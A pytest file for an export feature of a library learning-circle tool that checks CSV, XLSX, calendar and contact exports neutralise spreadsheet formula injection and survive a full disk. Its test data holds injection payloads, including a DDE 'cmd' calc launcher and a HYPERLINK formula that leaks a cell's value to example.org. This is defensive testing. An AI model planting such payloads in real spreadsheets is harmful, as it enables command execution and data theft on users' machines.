"""What leaves the library: lists, calendar, contacts, everything; no formula, nothing damaged."""

from __future__ import annotations

import csv
import errno
import importlib.util
import json
import os
import shutil
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import vobject
from command_line import CommandLine
from python_calamine import CalamineWorkbook

from circledesk.interop.dump import described
from circledesk.interop.spreadsheets import as_typed, harmless

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0", "＝1+1",
    '=HYPERLINK("http://example.org?x="&A1,"x")', "'=1+1", "Ng'ang'a", "+254722000114", "-5",
)  # fmt: skip
"""What OWASP names, and three that must stay as they are."""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The team of `hostile`, where it was made for the first test."""
    return tmp_path_factory.mktemp("hostile") / "organizer"


@pytest.fixture
def hostile(organizer: CommandLine, built: Path) -> CommandLine:
    """A team whose circles, courses, people and learners are called like formulas."""
    if built.exists():
        shutil.rmtree(organizer.folder)
        shutil.copytree(built, organizer.folder)
        return organizer
    for number, text in enumerate(FORMULAS):
        course = organizer.json("course", "add", f"--title={text}", f"--provider={text}")
        circle = organizer.json(
            "circle", "add", "--course", course["id"], f"--name={text}", "--start", "2018-07-31",
            "--time", "17:30", "--branch", "BUR", "--facilitator", f"f{number}@example.org",
        )  # fmt: skip
        told = ("--circle", circle["id"], f"--name={text}", f"--goal={text}")
        organizer.json("signup", "add", *told)
    shutil.copytree(organizer.folder, built)
    return organizer


def test_no_list_calculates_and_every_text_comes_back(hostile: CommandLine, tmp_path: Path) -> None:
    told = hostile.json("export", "csv", "--out", str(tmp_path / "csv"))
    lists = {file.stem: list(_rows(file)) for file in (tmp_path / "csv").glob("*.csv")}
    assert {name: len(rows) - 1 for name, rows in lists.items()} == {
        name.removesuffix(".csv"): count for name, count in told["rows"].items()
    }
    cells = [cell for rows in lists.values() for row in rows for cell in row]
    assert not [cell for cell in cells if cell != harmless(as_typed(cell))]
    names = {as_typed(row[0]) for row in lists["learners"][1:]}
    assert names == {text.strip() for text in FORMULAS}

    written = hostile.json("export", "xlsx", "--out", str(tmp_path / "xlsx"))["written"]
    with zipfile.ZipFile(written) as book:
        pages = [book.read(name) for name in book.namelist() if "worksheets/" in name]
    assert not any(b"<f>" in page or b"<hyperlink" in page for page in pages)
    sheets = CalamineWorkbook.from_path(written)
    assert len(sheets.sheet_names) == len(lists)
    learners = sheets.get_sheet_by_name("Learners").to_python()
    assert {row[0] for row in learners[1:]} == names


def test_everything_is_there_and_every_field_is_described(
    hostile: CommandLine, tmp_path: Path
) -> None:
    told = hostile.json("export", "all", "--out", str(tmp_path))["rows"]
    assert told["learner"] == told["course"] - 1 == len(FORMULAS)
    for file in sorted((tmp_path / "tables").glob("*.csv")):
        lines = file.with_suffix(".jsonl").read_text(encoding="utf-8").splitlines()
        exact = [json.loads(line) for line in lines]
        heading, *rows = _rows(file)
        assert len(rows) == len(exact) == told[file.stem]
        for row, whole in zip(rows, exact, strict=True):
            assert [as_typed(cell) for cell in row] == [_text(whole[name]) for name in heading]
    fields = list(_rows(tmp_path / "fields.csv"))
    assert {row[0] for row in fields[1:]} == {name for name in told if name != "files"}
    assert all(row[4].endswith((".", "?", ")")) and len(row[4]) > 4 for row in fields[1:])
    assert "Lake Libraries" in (tmp_path / "README.txt").read_text(encoding="utf-8")
    assert not list(tmp_path.rglob("*.part"))


def test_what_fields_hold_is_as_the_models_say() -> None:
    file = Path(__file__).parents[2] / "resources" / "fields" / "update.py"
    spec = importlib.util.spec_from_file_location("fields_update", file)
    assert spec is not None
    assert spec.loader is not None
    module: Any = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.FILE.read_text(encoding="utf-8") == module.toml(), (
        "run resources/fields/update.py"
    )
    assert described()["learner"]["phone_shared"]


def test_calendars_and_telephones_read_what_we_write(
    hostile: CommandLine, tmp_path: Path, at: Callable[[str], None]
) -> None:
    hostile.json(
        "event", "add", "--kind", "regional", "--title", "Lake; meeting, of us",
        "--date", "2018-09-01",
    )  # fmt: skip
    written = hostile.json("export", "ics", "--out", str(tmp_path))["written"]
    entries = vobject.readOne(Path(written).read_text(encoding="utf-8")).vevent_list
    listed = hostile.json("export", "csv", "--out", str(tmp_path / "csv"))["rows"]
    assert len(entries) == listed["meetings.csv"] + listed["events.csv"]
    first = entries[0]
    assert first.dtstart.value.isoformat() == "2018-07-31T17:30:00+03:00"
    assert str(first.dtstart.value.tzinfo) != "UTC"
    assert {entry.summary.value for entry in entries} >= {"Lake; meeting, of us", "=1+1"}

    uids = [entry.uid.value for entry in entries]
    at("2018-08-09T09:00")
    hostile.json("export", "ics", "--out", str(tmp_path))
    again = vobject.readOne(Path(written).read_text(encoding="utf-8")).vevent_list
    assert [entry.uid.value for entry in again] == uids
    assert int(again[0].sequence.value) > int(first.sequence.value)

    written = hostile.json("export", "vcard", "--out", str(tmp_path))["written"]
    cards = list(vobject.readComponents(Path(written).read_text(encoding="utf-8")))
    people = hostile.json("list", "facilitators")
    assert [card.fn.value for card in cards] == [row["name"] for row in people]
    assert cards[0].org.value[0] == "Lake Libraries"


def test_a_folder_that_cannot_be_is_refused_in_words(
    organizer: CommandLine, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("in the way", encoding="utf-8")
    for kind in ("xlsx", "csv", "ics", "vcard", "all"):
        ran = organizer("export", kind, "--out", str(tmp_path / "file" / "inside"))
        assert ran.code == 1
        assert "cannot be written: Not a directory" in ran.err


def _rows(file: Path) -> Iterator[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        yield from csv.reader(opened)


def _text(value: Any) -> str:
    if value is None or isinstance(value, str):
        return value or ""
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


@pytest.mark.parametrize("kind", ["csv", "p2pu", "all"])
def test_a_disk_that_gets_full_is_left_as_it_was(
    organizer: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """Neither half a folder, nor an older one with half of it new."""
    older = tmp_path / "older"
    assert organizer("export", kind, "--out", str(older)).code == 0
    before = {file: file.read_bytes() for file in older.rglob("*") if file.is_file()}
    flushed, fsync = [], os.fsync

    def full(handle: int) -> None:
        flushed.append(handle)
        if len(flushed) > 2:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        fsync(handle)

    monkeypatch.setattr("circledesk.in_place.os.fsync", full)
    for folder in (older, tmp_path / "new" / "within"):
        flushed.clear()
        ran = organizer("export", kind, "--out", str(folder))
        assert (ran.code, "cannot be written" in ran.err) == (1, True), ran.err
    assert {file: file.read_bytes() for file in older.rglob("*") if file.is_file()} == before
    assert not (tmp_path / "new").exists()
    assert {file.parent.name for file in older.rglob(".*")} == set()
